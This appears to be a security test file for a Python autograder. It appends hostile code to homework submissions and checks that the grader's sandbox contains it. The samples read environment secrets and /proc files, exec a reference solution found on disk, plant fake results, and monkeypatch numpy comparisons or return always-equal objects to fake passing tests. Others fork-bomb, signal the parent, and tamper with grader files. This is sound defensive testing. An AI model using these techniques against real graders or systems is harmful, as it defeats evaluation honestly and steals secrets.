"""Hostile submissions: each attack is real code appended to a submission.

For every one, `python -m autograder grade` must exit 0 in bounded time, write a
valid results.json, give no points the honest part of the submission did not
earn, leave the grader's files and any planted fake result without effect, and
show no secret in its feedback.  Attacks on file secrecy need the root mode
(student code under its own uid: see docs/security.md); as an ordinary user
they are skipped, since files the grader's user can read are then readable.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest
from conftest import (
    CONFIG,
    FILES,
    ROOT,
    SOLUTIONS,
    TEMPLATES,
    VARIANTS,
    grade_cli,
    make_submission,
    with_callers,
    write_config,
)

from autograder.config import load_config
from autograder.sandbox.landlock import abi_version

ROOT_MODE = os.geteuid() == 0 and os.environ.get("AUTOGRADER_DROP_PRIVILEGES", "1") != "0"
SECRET_ENV = "HW_RNN_GRADER_TOKEN"
SECRET_VALUE = "tok-5f3a9c-do-not-leak"
LANDLOCK_ABI = abi_version()
NO_LANDLOCK = "needs Landlock (Linux 5.13 or later): student code confined to its folder"
PRIVATE_NOTE = "hw-rnn-private-note-7c1e"
RNN = ["rnn_step_forward", "rnn_step_backward", "rnn_forward", "rnn_backward", "output_forward", "output_backward",
       "softmax_cross_entropy", "clip_gradients"]
LSTM = ["sigmoid", "lstm_gates", "lstm_step_forward", "lstm_step_backward", "lstm_forward", "lstm_backward"]

# Code that searches where this grader's files live (its checkout, as a student who knows the course
# repository would), Gradescope's /autograder, the grader's sandboxes in /tmp, and every folder above its own.
FIND = """
import glob as _glob
import os as _os
def _find(names, want=None, limit=4000):
    roots = ["/autograder", GRADER_ROOT, *_glob.glob("/tmp/autograder_sub_*")]
    own = _os.path.dirname(_os.getcwd())
    here = _os.getcwd()
    while here != "/":
        here = _os.path.dirname(here)
        roots.append(here)
    found, seen = [], 0
    for root in roots:
        for dirpath, dirnames, filenames in _os.walk(root):
            seen += 1
            if seen > limit or dirpath.count("/") > 8:
                dirnames[:] = []
                continue
            for f in filenames:
                if f in names and not dirpath.startswith(own):
                    p = _os.path.join(dirpath, f)
                    try:
                        text = open(p).read()
                    except OSError:
                        continue
                    if want is None or want in text:
                        found.append((p, text))
    return found
"""

ATTACKS = {
    # -- reading ------------------------------------------------------------------------------------------------
    "exec_reference_found_on_disk": dict(base="templates", root=True, file="lstm_layers.py", code=FIND + """
for _path, _text in _find({"lstm_layers.py"}, "BEGIN SOLUTION"):
    print("FOUND", _path)
    exec(_text, globals())
"""),
    "import_reference_by_name": dict(base="templates", file="rnn_layers.py", code="""
import importlib, sys, os
here = os.getcwd()
while here != "/":
    sys.path.append(here)
    here = os.path.dirname(here)
for name in ("solutions.hw_rnn.rnn_layers", "hw_rnn.rnn_layers", "_reference_hw_rnn_rnn_layers"):
    try:
        globals().update({k: v for k, v in vars(importlib.import_module(name)).items() if k.startswith("rnn")})
        print("IMPORTED", name)
    except Exception as exc:
        print("no", name, type(exc).__name__)
"""),
    "print_hidden_config": dict(base="templates", root=True, file="rnn_layers.py", code=FIND + """
for _path, _text in _find({"assignment.yaml"}):
    print("CONFIG", _path, _text)
"""),
    "read_grader_environment": dict(base="templates", file="rnn_layers.py", code="""
import os
print("ENV", dict(os.environ))
for pid in (os.getppid(), 1):
    for what in ("environ", "cmdline"):
        try:
            print("PROC", pid, what, open(f"/proc/{pid}/{what}", "rb").read())
        except OSError as exc:
            print("PROC", pid, what, type(exc).__name__)
"""),
    # -- writing ------------------------------------------------------------------------------------------------
    "plant_results_everywhere": dict(base="templates", file="rnn_layers.py", code="""
import json, os, subprocess
fake = json.dumps({"score": 1000, "tests": [{"name": "rnn_forward: planted", "score": 1000, "max_score": 1}]})
targets = ["results.json", "/autograder/results/results.json"]
try:
    args = open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\\0")
    targets.append(args[args.index(b"--results") + 1].decode())
except Exception:
    pass
for t in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(t)), exist_ok=True)
        open(t, "w").write(fake)
        print("WROTE", t)
    except OSError as exc:
        print("could not write", t, exc)
# And again after the grader is done, from a process that leaves the process group.
code = "import time, sys; time.sleep(2); [open(t, 'w').write(sys.argv[1]) for t in sys.argv[2:]]"
subprocess.Popen(["python3", "-c", code, fake, *targets], start_new_session=True)
"""),
    "tamper_with_grader_files": dict(base="templates", root=True, file="rnn_layers.py", code=FIND + """
for _path, _text in _find({"rnn_layers.py", "lstm_layers.py", "assignment.yaml", "grader.py", "compare.py"}):
    try:
        open(_path, "a").write("\\n# tampered\\n")
        print("TAMPERED", _path)
    except OSError:
        pass
"""),
    "write_other_students_folders": dict(base="reference", root=True, file="rnn_layers.py", code="""
import glob, os
for path in glob.glob("/tmp/autograder_sub_*/work/*.py"):
    if os.path.dirname(path) == os.getcwd():
        continue
    try:
        open(path, "a").write("raise SystemExit('sabotaged')\\n")
        print("SABOTAGED", path)
    except OSError:
        pass
"""),
    # -- faking -------------------------------------------------------------------------------------------------
    "monkeypatch_numpy_and_builtins": dict(base="templates", file="lstm_layers.py", code="""
import builtins
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
def sigmoid(z):
    return np.zeros_like(z)
def lstm_gates(x_t, h_prev, params):
    z = np.zeros((x_t.shape[0], h_prev.shape[1]))
    return z, z, z, z
"""),
    "walk_stack_frames_for_expected_arrays": dict(base="templates", file="rnn_layers.py", code="""
import gc, inspect
import numpy as np
def rnn_step_forward(x_t, s_prev, U, W, b):
    shape = (x_t.shape[0], U.shape[0])
    for frame in inspect.stack():
        for value in list(frame.frame.f_locals.values()):
            if isinstance(value, np.ndarray) and value.shape == shape and value is not s_prev:
                return value, None
    for obj in gc.get_objects():
        if isinstance(obj, np.ndarray) and obj.shape == shape and obj is not s_prev:
            return obj, None
    return np.zeros(shape), None
"""),
    "lying_return_values": dict(base="templates", file="rnn_layers.py", code="""
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other):
        return True
    def __array_finalize__(self, obj):
        pass
class Fake:
    shape = (3, 5)
    dtype = np.dtype("float64")
    def __array__(self, *a, **k):
        return np.zeros(self.shape)
    def __eq__(self, other):
        return True
    def __float__(self):
        return 0.0
class FakeFloat(float):
    def __eq__(self, other):
        return True
def rnn_step_forward(x_t, s_prev, U, W, b):
    return np.zeros((x_t.shape[0], U.shape[0])).view(Liar), None
def output_forward(s, V, c):
    return Fake(), None
def softmax_cross_entropy(o, y, mask=None):
    return FakeFloat(0.0), np.zeros(o.shape).view(Liar)
def clip_gradients(grads, max_norm):
    return {k: Fake() for k in grads}, FakeFloat(1.0)
"""),
    # -- crashing and hanging -------------------------------------------------------------------------------------
    "children_that_outlive_the_call": dict(base="reference", file="rnn_layers.py", code="""
import os, subprocess
_spawned = []
def output_forward(s, V, c):
    if not _spawned:
        _spawned.append(subprocess.Popen(["sleep", "SLEEP_A"], start_new_session=True))
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "SLEEP_B"])
            os._exit(0)
    o = s @ V.T + c
    return o, (s, V)
"""),
    "fork_bomb": dict(base="reference", root=True, file="rnn_layers.py", code="""
import os
def clip_gradients(grads, max_norm):
    pids = []
    try:
        while True:
            pid = os.fork()
            if pid == 0:
                import time
                time.sleep(30)
                os._exit(0)
            pids.append(pid)
    except OSError as exc:
        raise RuntimeError(f"stopped after {len(pids)} forks: {exc}")
"""),
    "print_flood": dict(base="reference", file="rnn_layers.py", code="""
import sys
def output_forward(s, V, c):
    chunk = "x" * (1 << 20)
    for _ in range(3):  # over the many calls of the tests, far past the capture file's size limit
        sys.stdout.write(chunk)
    o = s @ V.T + c
    return o, (s, V)
"""),
    "close_the_channel": dict(base="reference", file="lstm_layers.py", code="""
import os
def lstm_gates(x_t, h_prev, params):
    for fd in range(3, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    return None
"""),
    "garbage_on_the_channel": dict(base="reference", file="lstm_layers.py", code="""
import os
def sigmoid(z):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\\xff\\xff\\xff\\x7f{not json" * 100)
        except OSError:
            pass
    return 1 / (1 + np.exp(-z))
"""),
    "giant_return_value": dict(base="reference", file="rnn_layers.py", code="""
def output_forward(s, V, c):
    return np.ones((12000, 12000)), None
"""),
    "c_stack_overflow": dict(base="reference", file="rnn_layers.py", code="""
import sys
sys.setrecursionlimit(10**7)
def _deep(n):  # each level goes through C (map), so the C stack overflows: a segfault, at once
    return sum(map(_deep, [n + 1]))
def output_forward(s, V, c):
    _deep(0)
"""),
    # -- Landlock: world-readable files elsewhere on the machine (a copy planted by the `planted` fixture) --------
    "read_reference_copied_to_tmp": dict(base="templates", landlock=True, file="rnn_layers.py", code="""
import glob, os
for _p in [PLANTED + "/rnn_layers.py", *glob.glob("/tmp/*/rnn_layers.py"), *glob.glob("/tmp/*/*/rnn_layers.py")]:
    if os.path.dirname(_p) == os.getcwd():
        continue
    try:
        _text = open(_p).read()
    except OSError:
        continue
    if "def rnn_step_forward" in _text and "NotImplementedError" not in _text:
        print("FOUND", _p)
        exec(_text, globals())
        break
"""),
    "read_grader_proc_files": dict(base="templates", landlock=True, file="rnn_layers.py", code="""
import os
for _pid in (os.getppid(), 1):
    for _what in ("cmdline", "environ", "status", "maps"):
        try:
            print("PROCREAD", _pid, _what, open(f"/proc/{_pid}/{_what}", "rb").read()[:3000])
        except OSError as exc:
            print("no", _pid, _what, type(exc).__name__)
"""),
    "list_and_read_tmp": dict(base="templates", landlock=True, file="rnn_layers.py", code="""
import glob, os
try:
    print("LISTED", os.listdir("/tmp"), os.listdir(PLANTED))
except OSError as exc:
    print("no listing", type(exc).__name__)
for _path in glob.glob("/tmp/*/*.txt") + glob.glob("/var/tmp/*/*.txt"):
    try:
        print("READ", _path, open(_path, errors="replace").read(200))
    except OSError:
        pass
try:
    print("READ", open(PLANTED + "/notes.txt").read())
except OSError as exc:
    print("no notes", type(exc).__name__)
"""),
    "write_outside_work_folder": dict(base="reference", landlock=True, file="rnn_layers.py", code="""
import os
_up = os.path.dirname(os.getcwd())
for _t in [PLANTED + "/drop/OUTSIDE", "/var/tmp/OUTSIDE", "/dev/shm/OUTSIDE", _up + "/OUTSIDE"]:
    try:
        open(_t, "w").write("escaped")
        print("ESCAPED", _t)
    except OSError as exc:
        print("no", _t, type(exc).__name__)
    try:
        os.mkdir(_t + ".d")
        print("ESCAPED", _t + ".d")
    except OSError:
        pass
"""),
    # The process that started the child: the grader, or the fork server a grade-all worker forks children from.
    "reach_the_parent_process": dict(base="reference", root=True, file="rnn_layers.py", code="""
import os, signal
def output_forward(s, V, c):
    _parent = os.getppid()
    for _try in (lambda: os.kill(_parent, signal.SIGKILL), lambda: os.kill(_parent, signal.SIGSTOP),
                 lambda: open(f"/proc/{_parent}/mem", "rb").read(1), lambda: open(f"/proc/{_parent}/environ").read()):
        try:
            _try()
            print("PARENT_REACHED")
        except Exception:
            pass
    o = s @ V.T + c
    return o, (s, V)
"""),
    "signal_the_grader": dict(base="reference", landlock=True, file="rnn_layers.py", code="""
import os, signal
def output_forward(s, V, c):
    for _sig in (signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(os.getppid(), _sig)
        except OSError:
            pass
    o = s @ V.T + c
    return o, (s, V)
"""),
    # A process that forks and exits in a loop changes pid faster than a scan of /proc finds it; it starts a new
    # session on every step, so no process group holds it either.
    "fork_and_exit_in_a_loop": dict(base="reference", root=True, file="rnn_layers.py", code="""
import ctypes, os, time
_clip_gradients, _started = clip_gradients, []
def clip_gradients(grads, max_norm):
    if not _started and os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"HOPNAME", 0, 0, 0)  # PR_SET_NAME: the test finds it by this name
        while True:
            try:
                if os.fork() != 0:
                    os._exit(0)
                os.setsid()
            except OSError:
                time.sleep(0.0001)
    _started.append(True)
    return _clip_gradients(grads, max_norm)
"""),
    # Output printed on hidden inputs must never reach the feedback, which shows only what public tests printed:
    # the child keeps its capture descriptors, so it tries to rewrite the public part of the file in place.
    "rewrite_public_output_in_place": dict(base="reference", file="rnn_layers.py", leaks_shapes=True, code="""
import fcntl, os, sys
_rnn_forward, _seen = rnn_forward, {}
def rnn_forward(x, s0, U, W, b):
    if not _seen:
        print("P" * 600, flush=True)
        print("Q" * 600, file=sys.stderr, flush=True)
    _seen.setdefault(str(x.shape), None)
    text = ("LEAK " + " ".join(_seen)).ljust(500)[:500].encode()
    for fd in (1, 2):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) & ~os.O_APPEND)
        except OSError:
            pass
    for write in (lambda: os.pwrite(1, text, 0),
                  lambda: (os.ftruncate(2, 0), os.lseek(2, 0, os.SEEK_SET), os.write(2, text + b"Q" * 600)),
                  lambda: open("/proc/self/fd/1", "r+b").write(text)):
        try:
            write()
        except OSError:
            pass
    return _rnn_forward(x, s0, U, W, b)
"""),
    "rewrite_public_output_from_a_thread": dict(base="reference", file="rnn_layers.py", leaks_shapes=True, code="""
import os, threading, time
_rnn_forward, _seen = rnn_forward, {}
def _rewrite():
    fd = os.dup(1)
    while True:
        try:
            os.pwrite(fd, ("LEAK " + " ".join(list(_seen))).ljust(500)[:500].encode(), 0)
        except OSError:
            pass
        time.sleep(0.002)
def rnn_forward(x, s0, U, W, b):
    if not _seen:
        print("P" * 600, flush=True)
        import fcntl
        fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) & ~os.O_APPEND)
        threading.Thread(target=_rewrite, daemon=True).start()
    _seen.setdefault(str(x.shape), None)
    return _rnn_forward(x, s0, U, W, b)
"""),
}

# The functions an attack replaced or disabled: with the reference as base, everything else keeps full marks.
# The language model calls output_forward (char_rnn_loss, train_char_rnn, sample) and train_char_rnn calls
# clip_gradients, so an attack on those also costs their tests.
OUTPUT_LAYER = {"output_forward", "output_backward", "char_rnn_loss", "train_char_rnn", "sample"}
ATTACKED = {
    "exec_reference_found_on_disk": set(LSTM), "import_reference_by_name": set(RNN), "print_hidden_config": set(RNN),
    "read_grader_environment": set(RNN), "plant_results_everywhere": set(RNN), "tamper_with_grader_files": set(RNN),
    "write_other_students_folders": set(), "monkeypatch_numpy_and_builtins": set(LSTM),
    "walk_stack_frames_for_expected_arrays": set(RNN), "lying_return_values": set(RNN),
    "children_that_outlive_the_call": set(), "fork_bomb": {"clip_gradients", "train_char_rnn"},
    "print_flood": set(),  # output past the capture file's limit is dropped: printing costs nothing
    "close_the_channel": {"lstm_gates", "lstm_step_forward", "lstm_step_backward", "lstm_forward", "lstm_backward"},
    "garbage_on_the_channel": set(LSTM), "giant_return_value": OUTPUT_LAYER, "c_stack_overflow": OUTPUT_LAYER,
    "read_reference_copied_to_tmp": set(RNN), "read_grader_proc_files": set(RNN), "list_and_read_tmp": set(RNN),
    "write_outside_work_folder": set(), "signal_the_grader": set(), "reach_the_parent_process": set(),
    "rewrite_public_output_in_place": set(), "rewrite_public_output_from_a_thread": set(),
    "fork_and_exit_in_a_loop": set(),
}


def _digest(paths: list[Path]) -> str:
    h = hashlib.sha256()
    for p in sorted(paths):
        h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def fast_config(tmp_path_factory):
    return write_config(tmp_path_factory.mktemp("hostile_cfg"),
                        limits={"call_seconds": 2.0, "import_seconds": 8.0, "batch_seconds": 20.0})


# Durations unique to this run, so processes left by other runs on the machine are not counted.
SLEEPS = (f"{300 + os.getpid() % 1000}.25", f"{300 + os.getpid() % 1000}.5")


HOPNAME = f"hop{os.getpid()}"[:15]


def _hoppers() -> list[int]:
    """The uids of fork_and_exit_in_a_loop's processes still running (killed here, so that a failure leaves none)."""
    from autograder.sandbox.privileges import kill_identity

    out = subprocess.run(["ps", "-eo", "uid=,stat=,comm="], capture_output=True, text=True).stdout
    uids = sorted({int(line.split()[0]) for line in out.splitlines()
                   if line.split()[2:] == [HOPNAME] and not line.split()[1].startswith("Z")})
    for uid in uids:
        kill_identity(uid)
    return uids


def _stray_sleepers() -> list[str]:
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if line in (f"sleep {SLEEPS[0]}", f"sleep {SLEEPS[1]}")]


@pytest.fixture(scope="module")
def planted():
    """A world-readable copy of the reference and the config in /tmp, as a careless copy would leave them.

    Planted only where Landlock is on: without it, student code could read such a copy (the root mode
    keeps only the checkout private), which is what ``test_without_landlock_the_attacks_work`` shows.
    Also a world-readable note and a world-writable folder; all removed afterwards.
    """
    import shutil
    import tempfile

    if not LANDLOCK_ABI:
        yield None
        return
    folder = Path(tempfile.mkdtemp(prefix="hw_rnn_copy_", dir="/tmp"))
    escapes = [Path(d) / f"hw_rnn_escape_{os.getpid()}" for d in ("/var/tmp", "/dev/shm")]
    try:
        for f in [*SOLUTIONS.glob("*.py"), CONFIG]:
            shutil.copyfile(f, folder / f.name)
            os.chmod(folder / f.name, 0o644)
        (folder / "notes.txt").write_text(PRIVATE_NOTE + "\n")
        os.chmod(folder / "notes.txt", 0o644)
        (folder / "drop").mkdir()
        os.chmod(folder / "drop", 0o777)
        os.chmod(folder, 0o755)
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)
        for path in escapes:
            for leftover in (path, path.with_name(path.name + ".d")):
                if leftover.is_dir():
                    leftover.rmdir()
                elif leftover.exists():
                    leftover.unlink()


def _escapes(planted: Path) -> list[Path]:
    """Where write_outside_work_folder tries to write (its OUTSIDE placeholder), outside the work folder."""
    names = [planted / "drop" / f"hw_rnn_escape_{os.getpid()}",
             *(Path(d) / f"hw_rnn_escape_{os.getpid()}" for d in ("/var/tmp", "/dev/shm"))]
    return names + [n.with_name(n.name + ".d") for n in names]


def _writer_alive() -> bool:
    """Whether plant_results_everywhere's delayed writer (its arguments hold the fake result) still runs."""
    out = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    return any("rnn_forward: planted" in line for line in out.splitlines())


def _attack(name: str, tmp_path: Path, config: Path, planted: Path | None, env: dict | None = None):
    """Grade the attack's submission with the real grader; return the process and the parsed results."""
    attack = ATTACKS[name]
    base = TEMPLATES if attack["base"] == "templates" else SOLUTIONS
    sub = make_submission(tmp_path / "sub", base=base)
    path = sub / attack["file"]
    code = (textwrap.dedent(attack["code"]).replace("GRADER_ROOT", repr(str(ROOT)))
            .replace("HOPNAME", HOPNAME).replace("SLEEP_A", SLEEPS[0]).replace("SLEEP_B", SLEEPS[1])
            .replace("PLANTED", repr(str(planted))).replace("OUTSIDE", f"hw_rnn_escape_{os.getpid()}"))
    path.write_text(path.read_text() + "\n" + code)
    results_path = tmp_path / "results.json"
    env = {**os.environ, SECRET_ENV: SECRET_VALUE, "PYTHONPATH": str(ROOT), **(env or {})}
    # The timeout is a safety net only: the grader bounds every call itself.
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(results_path),
                           "--quiet", "--config", str(config)], cwd=tmp_path, capture_output=True, text=True,
                          timeout=600, env=env)
    assert proc.returncode == 0, proc.stderr
    return proc, sub, json.loads(results_path.read_text())


# Attacks on the process, its identity and its channel, run again with the child forked from a fork server (as
# grade-all's workers do, sandbox/forkserver.py) instead of a freshly started Python.
FORKED = ["reach_the_parent_process", "signal_the_grader", "read_grader_proc_files", "read_grader_environment",
          "children_that_outlive_the_call", "fork_bomb", "close_the_channel", "garbage_on_the_channel",
          "plant_results_everywhere", "write_outside_work_folder",
          "rewrite_public_output_in_place", "fork_and_exit_in_a_loop", "c_stack_overflow"]


@pytest.mark.parametrize("name, forked", [(n, False) for n in sorted(ATTACKS)] + [(n, True) for n in FORKED],
                         ids=[*sorted(ATTACKS), *(f"{n}-forked" for n in FORKED)])
def test_attack_is_harmless(name, forked, tmp_path, fast_config, validate_results, planted, monkeypatch):
    monkeypatch.setenv("AUTOGRADER_FORK_SERVER", "1" if forked else "0")
    attack = ATTACKS[name]
    if attack.get("landlock") and not LANDLOCK_ABI:
        pytest.skip(NO_LANDLOCK)
    if attack.get("root") and not (ROOT_MODE or LANDLOCK_ABI):
        pytest.skip("needs the root mode (student code under its own uid) or Landlock (docs/security.md)")
    grader_files = [*SOLUTIONS.glob("*.py"), CONFIG, *(ROOT / "autograder").rglob("*.py")]
    before = _digest(grader_files)
    victim = Path("/tmp/autograder_sub_victim/work")
    victim.mkdir(parents=True, exist_ok=True)
    # The other xdist worker may be reading it (its own attack's check): replaced whole, never truncated in place.
    (victim / f".rnn_layers.{os.getpid()}").write_text("ok\n")
    os.replace(victim / f".rnn_layers.{os.getpid()}", victim / "rnn_layers.py")
    proc, sub, results = _attack(name, tmp_path, fast_config, planted)
    hoppers = _hoppers()  # found and killed before any assertion can fail
    if name == "plant_results_everywhere":
        # The grader killed the attacker's delayed writer: nothing is left that could write later.
        assert not _writer_alive()
    validate_results(results)
    text = json.dumps(results)
    # No points beyond the honest part: templates earn nothing; the reference loses exactly what was attacked.
    lost = {t["name"].split(":")[0] for t in results["tests"] if t["score"] < t["max_score"]}
    # "does not modify its inputs" and the stability tests score only their property, which code that returns
    # anything harmless has (a stub, which raises, does not); every other test must earn nothing.
    earned = {t["name"].split(":")[0] for t in results["tests"] if t["score"] > 0 and not _property_only(t)}
    if attack["base"] == "templates":
        assert not earned, earned
    else:
        failures = [(t["name"], t["output"]) for t in results["tests"] if t["score"] == 0]
        assert lost == with_callers(ATTACKED[name]), failures[:3]
    assert "planted" not in text and results["score"] <= sum(t["max_score"] for t in results["tests"])
    # No secret in what students see.
    for secret in ("BEGIN SOLUTION", SECRET_VALUE, "seed: 101", "hidden_visibility", "FOUND", "IMPORTED",
                   "TAMPERED", "SABOTAGED", "PROCREAD", "LISTED", PRIVATE_NOTE, "ESCAPED", "--config",
                   "PARENT_REACHED"):
        assert secret not in text, secret
    assert _digest(grader_files) == before
    assert (victim / "rnn_layers.py").read_text() == "ok\n"
    assert not (tmp_path / "results.json.planted").exists()
    assert not _stray_sleepers()
    assert not hoppers
    if planted is not None:
        assert not [p for p in _escapes(planted) if p.exists()]
        assert "student code is confined by Landlock" in proc.stderr
    if attack.get("leaks_shapes"):
        public, hidden = _shapes(load_config(fast_config))
        assert any(f"LEAK {shape}" in results["output"] for shape in public)  # the attack ran, in public
        assert not [shape for shape in hidden if shape in text], results["output"]
    if name == "print_flood":
        assert "bytes not shown here" in results["output"] and "MB; output is cut" in results["output"]
    for f in FILES:
        assert (sub / f).exists()


def _shapes(config) -> tuple[set[str], set[str]]:
    """The input shapes (N, T, D) of the public and of the hidden rnn_forward and rnn_backward cases; hidden
    ones that no public test of any function shares."""
    found: dict[bool, set[str]] = {False: set(), True: set()}
    for test in config.tests:
        for case in test.cases:
            if {"N", "T", "D"} <= case.keys() and (test.hidden is False or test.function in ("rnn_forward",
                                                                                           "rnn_backward")):
                found[test.hidden].add(str((case["N"], case["T"], case["D"])))
    return found[False], found[True] - found[False]


# The attacks Landlock alone must stop, with student code under the grader's own identity (no separate uid).
READERS = ["exec_reference_found_on_disk", "print_hidden_config", "read_reference_copied_to_tmp",
           "read_grader_proc_files", "list_and_read_tmp", "write_outside_work_folder"]


@pytest.mark.skipif(not LANDLOCK_ABI, reason=NO_LANDLOCK)
@pytest.mark.parametrize("name", READERS)
def test_landlock_alone_closes_the_machine(name, tmp_path, fast_config, planted):
    """AUTOGRADER_DROP_PRIVILEGES=0: no separate uid (as root, the child is root); Landlock still closes
    the checkout, /tmp, /proc and every write outside the work folder."""
    proc, _, results = _attack(name, tmp_path, fast_config, planted, {"AUTOGRADER_DROP_PRIVILEGES": "0"})
    text = json.dumps(results)
    assert "student code is confined by Landlock" in proc.stderr
    if ATTACKS[name]["base"] == "templates":
        assert results["score"] == 0
    for secret in ("BEGIN SOLUTION", "seed: 101", "FOUND", "CONFIG", "PROCREAD", "LISTED", PRIVATE_NOTE,
                   "ESCAPED", "--config", SECRET_VALUE):
        assert secret not in text, secret
    assert not [p for p in _escapes(planted) if p.exists()]


# What each attack shows when it works: the same submissions with Landlock turned off.
WORKS_WITHOUT_LANDLOCK = {"read_reference_copied_to_tmp": "FOUND", "list_and_read_tmp": PRIVATE_NOTE,
                          "write_outside_work_folder": "ESCAPED", "read_grader_proc_files": "PROCREAD 1 cmdline"}


@pytest.mark.skipif(not LANDLOCK_ABI, reason=NO_LANDLOCK)
@pytest.mark.parametrize("name", sorted(WORKS_WITHOUT_LANDLOCK))
def test_without_landlock_the_attacks_work(name, tmp_path, fast_config, planted):
    """The attacks are real: with AUTOGRADER_LANDLOCK=0 each reaches the planted files (so the tests above can fail)."""
    proc, _, results = _attack(name, tmp_path, fast_config, planted, {"AUTOGRADER_LANDLOCK": "0"})
    assert "Landlock does not confine student code (turned off" in proc.stderr
    assert WORKS_WITHOUT_LANDLOCK[name] in results["output"]
    if name == "read_reference_copied_to_tmp":
        assert results["score"] > 0
    if name == "write_outside_work_folder":
        assert [p for p in _escapes(planted) if p.exists()]
        for p in _escapes(planted):
            if p.is_dir():
                p.rmdir()
            elif p.exists():
                p.unlink()

ZEROS = """
import numpy as np
def rnn_step_forward(x_t, s_prev, U, W, b):
    return np.zeros((x_t.shape[0], U.shape[0])), None
def rnn_step_backward(ds_next, cache):
    return None
def rnn_forward(x, s0, U, W, b):
    return np.zeros((x.shape[0], x.shape[1], U.shape[0])), None
def rnn_backward(ds, cache):
    return None
def output_forward(s, V, c):
    return np.zeros((s.shape[0], s.shape[1], V.shape[0])), None
def output_backward(do, cache):
    return None
def softmax_cross_entropy(o, y, mask=None):
    return 0.0, np.zeros_like(o)
def clip_gradients(grads, max_norm):
    return {k: np.zeros_like(v) for k, v in grads.items()}, 0.0
"""


def _property_only(test: dict) -> bool:
    """A test that scores one property code without computation can have: inputs left as they were, or finite
    outputs without warnings on extreme inputs (see grader.kind_inputs_unchanged and the stability tests)."""
    return test["name"] in PROPERTY_TESTS


PROPERTY_TESTS = {t.full_name for t in load_config(CONFIG).tests if t.kind == "inputs_unchanged" or t.stability}


def test_plausible_zeros_earn_nothing(tmp_path):
    """Right shapes and types but no computation: every test of values, self-consistency ones included, fails;
    only the property tests (inputs unchanged, stability), which such code satisfies, are earned."""
    sub = make_submission(tmp_path / "zeros", base=TEMPLATES)
    (sub / "rnn_layers.py").write_text(ZEROS)
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(tmp_path / "r.json"),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    results = json.loads((tmp_path / "r.json").read_text())
    earned = [t["name"] for t in results["tests"] if t["score"] > 0]
    assert earned and all(_property_only({"name": n}) for n in earned), earned  # only property tests
    outputs = {t["name"]: t["output"] for t in results["tests"]}
    assert "a constant or a stub" in outputs["softmax_cross_entropy: do matches the numerical gradient of your loss"]


@pytest.mark.skipif(not ROOT_MODE, reason="needs the root mode: student code under its own uid (docs/security.md)")
def test_root_mode_refuses_readable_secrets_or_unrunnable_python(tmp_path):
    import shutil
    import tempfile

    # pytest's own tmp folders are private; this one is reachable by every user, as a careless install would be.
    public = Path(tempfile.mkdtemp(prefix="hw_rnn_public_", dir="/tmp"))
    try:
        _refusals(public, tmp_path)
    finally:
        shutil.rmtree(public)


def _refusals(public: Path, tmp_path: Path) -> None:
    os.chmod(public, 0o755)
    for f in FILES:
        (public / f).write_text((SOLUTIONS / f).read_text())
    config = write_config(public)
    os.chmod(public, 0o755)
    for path in (config, *(public / f for f in FILES)):
        os.chmod(path, 0o644)
    import yaml

    raw = yaml.safe_load(config.read_text())
    raw["reference"] = str(public)
    config.write_text(yaml.safe_dump(raw))
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(SOLUTIONS), "--config", str(config),
                           "--results", str(tmp_path / "r.json")], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 2
    assert "readable by student code" in proc.stderr and str(config) in proc.stderr
    assert not (tmp_path / "r.json").exists()
    advised = re.search(r"make them private: chmod go-rwx (.+?)$", proc.stderr, re.MULTILINE)
    # Outside the repository: no word of `make root-mode`, which closes the repository only.
    assert advised and "root-mode" not in proc.stderr, proc.stderr
    for folder in advised.group(1).split():  # doing what the message says is enough
        os.chmod(folder, 0o700)
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(SOLUTIONS), "--config", str(config),
                           "--results", str(tmp_path / "r.json")], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 0 and (tmp_path / "r.json").exists(), proc.stderr
    env = {**os.environ, "AUTOGRADER_CHILD_PYTHON": "/root/.no-such-dir/python3"}
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(SOLUTIONS), "--results",
                           str(tmp_path / "r.json")], cwd=ROOT, capture_output=True, text=True, env=env)
    assert proc.returncode == 2 and "AUTOGRADER_CHILD_PYTHON" in proc.stderr


@pytest.mark.skipif(not ROOT_MODE, reason="needs the root mode: student code under its own uid (docs/security.md)")
def test_student_code_runs_under_its_own_uid(tmp_path):
    sub = make_submission(tmp_path / "whoami")
    path = sub / "rnn_layers.py"
    path.write_text(path.read_text() + "\nimport os\nprint('IDS', os.getuid(), os.getgid(), os.getgroups())\n")
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--results", str(tmp_path / "r.json"),
                           "--quiet"], cwd=ROOT, capture_output=True, text=True, timeout=240)
    assert proc.returncode == 0, proc.stderr
    output = json.loads((tmp_path / "r.json").read_text())["output"]
    line = next(ln for ln in output.splitlines() if ln.startswith("IDS"))
    _, uid, gid, groups = line.split(" ", 3)
